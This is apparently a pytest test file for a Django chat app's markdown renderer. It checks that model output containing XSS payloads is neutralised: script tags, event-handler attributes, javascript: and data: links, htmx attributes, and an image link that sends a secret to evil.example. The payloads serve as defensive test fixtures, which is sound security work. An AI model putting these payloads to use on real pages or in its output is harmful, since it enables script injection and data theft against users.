from html.parser import HTMLParser

import pytest

from conversations.rendering import render_markdown

pytestmark = pytest.mark.django_db  # the rendered HTML is cached in Redis


def test_markdown_is_rendered():
    html = render_markdown("**bold** and `code`")

    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html


def test_fenced_code_is_highlighted():
    html = render_markdown("```python\nx = 1\n```")

    assert '<code class="language-python">' in html
    assert '<span class="n">x</span>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        '<a href="#" hx-get="/admin/">x</a>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<svg onload=alert(1)>",
        "![x](https://evil.example/leak?q=secret)",
    ],
)
def test_hostile_model_output_is_neutralised(hostile):
    elements = _elements(str(render_markdown(hostile)))

    for tag, attributes in elements:
        assert tag not in {"script", "img", "iframe", "svg", "form", "style"}
        for name, value in attributes:
            assert not name.startswith(("on", "hx-", "data-hx-", "style"))
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:", "#"))


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))


def _elements(html: str):
    collector = _Collector()
    collector.feed(html)
    return collector.elements


def test_links_keep_safe_urls_and_get_a_safe_rel():
    elements = _elements(str(render_markdown("[docs](https://example.com/a)")))

    assert elements == [
        ("p", []),
        ("a", [("href", "https://example.com/a"), ("rel", "noopener noreferrer nofollow")]),
    ]
